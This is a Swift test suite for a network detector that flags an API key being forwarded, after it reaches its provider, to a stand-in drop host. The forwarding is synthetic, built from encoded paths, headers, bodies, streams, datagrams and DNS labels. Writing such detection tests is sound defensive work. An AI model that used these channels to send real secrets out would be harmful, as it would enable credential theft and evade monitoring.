import Foundation
import TestSupport
import Testing
import Wire

/// A way out for a key that has no form and no name.
struct WayOut: Sendable, CustomTestStringConvertible {
  var name: String
  var location: String
  var encoding: String?
  /// The head's target and fields, and the body; or a datagram or names.
  var send: @Sendable (_ key: String) -> Message

  enum Message {
    case request(target: String = "/", fields: String = "", body: String = "")
    case bytes(String)
    case datagram(String)
    case query(String)
  }

  var testDescription: String { name }

  static func wrapped(_ key: String, _ disguise: Disguise) -> String {
    String(decoding: disguise.wrap(Array(key.utf8)), as: UTF8.self)
  }

  static let all = [
    WayOut(name: "a segment of the path", location: "request-line") { .request(target: "/c/\($0)/x") },
    WayOut(name: "the name of a file", location: "request-line") { .request(target: "/c/\($0).txt") },
    WayOut(name: "a parameter", location: "request-line") { .request(target: "/c?d=\($0)&x=1") },
    WayOut(name: "a query without names", location: "request-line") { .request(target: "/c?\($0)") },
    WayOut(name: "a parameter in base64url", location: "request-line", encoding: "base64") {
      .request(target: "/c?d=\(wrapped($0, .base64url))")
    },
    WayOut(name: "a path in hexadecimal", location: "request-line", encoding: "hex") {
      .request(target: "/\(wrapped($0, .hex))")
    },
    WayOut(name: "a field", location: "request-header") { .request(fields: "X-Trace: \($0)\r\n") },
    WayOut(name: "the user agent", location: "request-header") { .request(fields: "User-Agent: curl/8 \($0)\r\n") },
    WayOut(name: "a cookie", location: "request-header") { .request(fields: "Cookie: a=b; sid=\($0)\r\n") },
    WayOut(name: "a value in JSON", location: "request-body") { .request(body: "{\"d\":\"\($0)\"}") },
    WayOut(name: "a body of its own", location: "request-body") { .request(body: $0) },
    WayOut(name: "a sentence", location: "request-body") { .request(body: "found it: \($0). bye") },
    WayOut(name: "a form", location: "request-body") { .request(body: "a=1&d=\($0)") },
    WayOut(name: "base64 in JSON", location: "request-body", encoding: "base64") {
      .request(body: "{\"d\":\"\(wrapped($0, .base64))\"}")
    },
    WayOut(name: "escapes in JSON", location: "request-body", encoding: "json-escape") {
      .request(body: "{\"d\":\"\(wrapped($0, .jsonAll))\"}")
    },
    WayOut(name: "a stream of no known protocol", location: "stream") { .bytes("hello \($0)\n") },
    WayOut(name: "a datagram", location: "datagram") { .datagram("x:\($0)") },
    WayOut(name: "a label", location: "dns-name") { .query("\($0).x.drop.example") },
    WayOut(name: "two labels", location: "dns-name") { .query("\($0.prefix(16)).\($0.dropFirst(16)).drop.example") },
    WayOut(name: "a label in base64url", location: "dns-name", encoding: "base64") {
      .query("\(wrapped($0, .base64url)).drop.example")
    },
  ]
}

@Suite("A key that went to its provider is told wherever it goes next")
struct KnownKeyTests {
  private static let key: String = {
    var generator = SeededGenerator(seed: 411)
    return "x7" + generator.text(30, of: Alphabets.alphanumeric)
  }()
  private static let client = IPAddress(ipv4: 0xC000_0205)

  private static func frames(_ payload: String, port: UInt16, to server: UInt32, _ serverPort: UInt16 = 80) -> [[UInt8]]
  {
    let (source, target) = (Endpoint(client, port: port), Endpoint(IPAddress(ipv4: server), port: serverPort))
    return [
      PacketBuilder.tcp(from: source, to: target, sequence: 99, flags: .syn),
      PacketBuilder.tcp(from: target, to: source, sequence: 499, acknowledgement: 100, flags: [.syn, .ack]),
      PacketBuilder.tcp(from: source, to: target, sequence: 100, acknowledgement: 500, payload: Array(payload.utf8)),
      PacketBuilder.tcp(
        from: source, to: target, sequence: 100 + UInt32(payload.utf8.count), acknowledgement: 500, flags: [.fin, .ack]),
    ]
  }

  private static func frames(_ message: WayOut.Message) -> [[UInt8]] {
    switch message {
    case .request(let target, let fields, let body):
      let length = body.isEmpty ? "" : "Content-Length: \(body.utf8.count)\r\n"
      let method = body.isEmpty ? "GET" : "POST"
      return frames(
        "\(method) \(target) HTTP/1.1\r\nHost: drop.example\r\n\(fields)\(length)\r\n\(body)", port: 40_001,
        to: 0xCB00_7107)
    case .bytes(let text): return frames(text, port: 40_001, to: 0xCB00_7107, 9_001)
    case .datagram(let text):
      let (source, target) = (Endpoint(client, port: 40_001), Endpoint(IPAddress(ipv4: 0xCB00_7107), port: 9_999))
      return [PacketBuilder.udp(from: source, to: target, payload: Array(text.utf8))]
    case .query(let name):
      let (source, target) = (Endpoint(client, port: 40_001), Endpoint(IPAddress(ipv4: 0xC000_0235), port: 53))
      return [PacketBuilder.udp(from: source, to: target, payload: DNSBuilder.query(name).bytes)]
    }
  }

  /// Replays the request that makes the key known, unless it is to stay unknown, and then `message`.
  private static func result(_ message: WayOut.Message, isKnown: Bool = true, workers: Int) throws -> Program.Result {
    let request = "GET /v1/models HTTP/1.1\r\nHost: api.mistral.ai\r\nAuthorization: Bearer \(key)\r\n\r\n"
    let known = isKnown ? frames(request, port: 40_000, to: 0xC633_6402) : []
    let records = (known + frames(message)).enumerated().map { number, frame in
      (timestamp: 1_700_000_000_000_000_000 + Int64(number) * 1_000_000, frame: frame)
    }
    let scratch = try ScratchFolder()
    let file = scratch.file("known.pcap")
    try Data(PcapBuilder.pcap(records)).write(to: file)
    return try Program.run(
      ["replay", file.path, "--eve", "-", "--events", "alert,http,dns,flow", "--workers", "\(workers)"])
  }

  private static func exfiltrations(_ result: Program.Result) throws -> [[String: Any]] {
    try result.output.split(separator: "\n").compactMap { line in
      let event = try JSONSerialization.jsonObject(with: Data(line.utf8)) as? [String: Any]
      guard let ours = event?["leakwire"] as? [String: Any], ours["detector"] as? String == "key-exfiltration" else {
        return nil
      }
      return ours
    }
  }

  @Test("and no output says it", arguments: WayOut.all, [1, 4])
  func told(_ way: WayOut, workers: Int) throws {
    let result = try Self.result(way.send(Self.key), workers: workers)
    let alerts = try Self.exfiltrations(result)
    #expect(alerts.count == 1)
    let credential = try #require(alerts.first?["credential"] as? [String: Any])
    #expect(credential["location"] as? String == way.location)
    #expect(credential["encodings"] as? [String] ?? [] == (way.encoding.map { [$0] } ?? []))
    #expect(alerts.first?["provider"] as? String == "mistral")
    #expect((alerts.first?["destination"] as? [String: Any])?["host"] as? String == (way.host))
    for secret in [Self.key, Self.key.lowercased()] + [.base64, .base64url, .hex].map({ WayOut.wrapped(Self.key, $0) })
    {
      let isLeaked = (result.output + result.errors).contains(secret)
      // A failed expectation would print what must not be printed.
      try #require(!isLeaked)
    }
  }

  @Test("and one that went nowhere before is not", arguments: WayOut.all)
  func ignored(_ way: WayOut) throws {
    #expect(try Self.exfiltrations(Self.result(way.send(Self.key), isKnown: false, workers: 1)).isEmpty)
  }
}

extension WayOut {
  /// To which its alert says that the key went.
  fileprivate var host: String {
    switch location {
    case "stream", "datagram": "203.0.113.7"
    default: "drop.example"
    }
  }
}
